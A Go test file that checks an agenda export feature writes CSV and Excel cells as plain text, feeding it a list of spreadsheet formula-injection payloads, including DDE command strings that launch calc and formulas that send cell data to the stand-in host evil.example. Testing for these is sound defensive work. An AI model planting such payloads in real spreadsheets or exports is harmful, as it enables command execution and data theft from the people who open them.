package exchange

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"plenary/internal/agenda"
)

// formulas are what spreadsheets calculate with, fetch, or hand to other programs.
var formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"x\")", "\t=1+1", "\r=1+1",
	"=WEBSERVICE(\"https://evil.example\")", "=IMPORTXML(\"https://evil.example\",\"//a\")", "-2+3+cmd|' /C calc'!A0", "{=1+1}", "%0A=1+1", "\"=1+1", ",=1+1", "x\n=1+1"}

// TestHoleV30EveryCellIsText puts a formula into every text that an organizer exports, and opens the exports again (Indico
// 2.2.3).
func TestHoleV30EveryCellIsText(t *testing.T) {
	for _, formula := range formulas {
		tables := organizersTables()
		inject(reflect.ValueOf(&tables).Elem(), formula)
		seen := 0
		for name, write := range csvTables {
			var b bytes.Buffer
			if err := write(&b, tables); err != nil {
				t.Fatal(err)
			}
			for _, row := range readCSV(t, b.Bytes())[1:] { // which refuses a cell that begins like a formula
				for _, cell := range row {
					seen += strings.Count(cell, strings.TrimPrefix(formula, "\r")) // which is no end of a line there
				}
			}
			if seen == 0 {
				t.Errorf("%q is not in %s, so that nothing was tried", formula, name)
			}
		}
		var b bytes.Buffer
		if err := Workbook(&b, tables); err != nil {
			t.Fatal(err)
		}
		book, err := excelize.OpenReader(&b)
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range book.GetSheetList() {
			rows, err := book.GetRows(name)
			if err != nil {
				t.Fatal(err)
			}
			for y, row := range rows {
				for x, value := range row {
					at, _ := excelize.CoordinatesToCellName(x+1, y+1)
					kind, _ := book.GetCellType(name, at)
					calculated, _ := book.GetCellFormula(name, at)
					link, target, _ := book.GetCellHyperLink(name, at)
					if calculated != "" || link || strings.Contains(value, strings.TrimSpace(formula)) && kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
						t.Errorf("%s!%s: %q is of type %v, formula %q, link %q", name, at, value, kind, calculated, target)
					}
				}
			}
		}
		if err := book.Close(); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	if err := ActivityCSV(&b, func(each func(agenda.Activity) error) error {
		for _, f := range formulas {
			if err := each(agenda.Activity{Verb: f, Summary: f, ActorName: f, Address: f, Subject: agenda.ID(f), Before: agenda.Fields{"x": f}, After: agenda.Fields{"x": `"` + f}}); err != nil {
				return err
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if rows := readCSV(t, b.Bytes()); len(rows) != len(formulas)+1 {
		t.Errorf("%d lines of the log", len(rows))
	}
}

// inject puts a text into every text that people write, whatever it is a part of.
func inject(v reflect.Value, text string) {
	switch at := v.Addr().Interface().(type) {
	case *agenda.Text:
		*at = agenda.Text{"en": text, "vi": text}
		return
	case *agenda.Slot, *agenda.ID, **agenda.Slot:
		return
	case *string:
		*at = text
		return
	}
	switch v.Kind() {
	case reflect.Slice, reflect.Array:
		for i := range v.Len() {
			inject(v.Index(i), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() && !strings.Contains("Zone StartDate EndDate Languages BaseURL Slug Color Interpretation Language", f.Name) {
				inject(v.Field(i), text)
			}
		}
	}
}
